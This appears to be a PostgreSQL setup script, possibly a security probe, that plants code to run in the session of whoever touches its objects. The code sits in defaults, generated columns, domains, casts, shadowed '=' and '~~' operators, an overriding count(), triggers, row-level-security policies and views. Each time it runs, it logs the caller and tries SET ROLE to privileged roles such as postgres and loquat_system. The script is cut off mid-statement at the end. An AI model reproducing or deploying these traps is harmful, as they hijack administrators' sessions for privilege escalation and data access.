-- A table that runs its owner's code whatever one does with it; the code tries to become somebody better and notes who it is.
CREATE TABLE notes (what text, who text DEFAULT current_user, login text DEFAULT session_user, climbed boolean NOT NULL DEFAULT false);
GRANT INSERT ON notes TO PUBLIC;
CREATE FUNCTION note(what text) RETURNS text LANGUAGE plpgsql VOLATILE AS $$
DECLARE better text;
BEGIN
  IF current_setting('transaction_read_only') = 'off' THEN INSERT INTO public.notes (what) VALUES (what); END IF;
  FOREACH better IN ARRAY ARRAY['loquat_system', 'loquat_schema_manager', 'loquat_provisioner', 'loquat_service', 'loquat_bot_runner', 'postgres'] LOOP
    BEGIN
      EXECUTE 'RESET SESSION AUTHORIZATION';
      EXECUTE 'RESET ROLE';
      EXECUTE 'SET ROLE NONE';
      EXECUTE format('SET ROLE %I', better);
    EXCEPTION WHEN OTHERS THEN CONTINUE;
    END;
    IF current_setting('transaction_read_only') = 'on' THEN RAISE EXCEPTION 'climbed to %', better; END IF;
    INSERT INTO public.notes (what, climbed) VALUES (what, true);
  END LOOP;
  RETURN what;
END $$;
CREATE FUNCTION pure(what text) RETURNS text LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN RETURN public.note(what); END $$;
CREATE FUNCTION noted() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN PERFORM public.note('trigger ' || TG_OP); RETURN coalesce(NEW, OLD); END $$;
CREATE DOMAIN word AS text CHECK (public.pure('domain') IS NOT NULL);
CREATE TYPE mood AS (word text);
CREATE FUNCTION to_mood(text) RETURNS mood LANGUAGE plpgsql AS $$ BEGIN PERFORM public.note('cast'); RETURN ROW($1); END $$;
CREATE CAST (text AS mood) WITH FUNCTION to_mood AS ASSIGNMENT;
CREATE FUNCTION to_int(text) RETURNS int LANGUAGE plpgsql AS $$ BEGIN PERFORM public.note('function'); RETURN 1; END $$;
CREATE FUNCTION same(text, text) RETURNS boolean LANGUAGE plpgsql AS $$ BEGIN PERFORM public.note('operator'); RETURN $1 OPERATOR(pg_catalog.=) $2; END $$;
CREATE OPERATOR public.= (FUNCTION = same, LEFTARG = text, RIGHTARG = text);
CREATE OPERATOR public.~~ (FUNCTION = same, LEFTARG = text, RIGHTARG = text);
CREATE FUNCTION count(bigint) RETURNS bigint LANGUAGE plpgsql AS $$ BEGIN PERFORM public.note('count'); RETURN $1; END $$;
CREATE TABLE trap (
    id    serial PRIMARY KEY,
    a     text DEFAULT note('default'),
    b     text GENERATED ALWAYS AS (pure('generated')) STORED,
    c     word,
    d     integer CHECK (pure('check') IS NOT NULL),
    e     text,
    f     mood,
    h     text DEFAULT '7'
);
CREATE INDEX ON trap (pure('index'));
CREATE TRIGGER noted BEFORE INSERT OR UPDATE OR DELETE ON trap FOR EACH ROW EXECUTE FUNCTION noted();
CREATE TRIGGER noted_later AFTER INSERT OR UPDATE OR DELETE ON trap FOR EACH STATEMENT EXECUTE FUNCTION noted();
CREATE TRIGGER emptied BEFORE TRUNCATE ON trap FOR EACH STATEMENT EXECUTE FUNCTION noted();
CREATE CONSTRAINT TRIGGER at_the_end AFTER INSERT ON trap DEFERRABLE INITIALLY DEFERRED FOR EACH ROW EXECUTE FUNCTION noted();
INSERT INTO trap (c, d, e) SELECT 'word', n, n::text FROM generate_series(1, 5) AS n;
CREATE TABLE fence (id serial PRIMARY KEY, e text);
INSERT INTO fence (e) VALUES ('x'), ('y');
ALTER TABLE fence ENABLE ROW LEVEL SECURITY;
ALTER TABLE fence FORCE ROW LEVEL SECURITY;
CREATE POLICY everything ON fence USING (note('policy') IS NOT NULL) WITH CHECK (note('policy of writing') IS NOT NULL);
CREATE VIEW glass AS SELECT id, e, note('view') AS seen FROM trap;
CREATE RULE also AS ON INSERT TO glass DO INSTEAD INSERT INTO notes (what) VALUES ('rule');
CREATE MATERIALIZED VIEW still AS SELECT id, note('materialized view') AS seen FROM trap;
CREATE VIEW reading WITH (security_barrier) AS SELECT id, name, note('view of contacts') AS seen FROM public.contacts
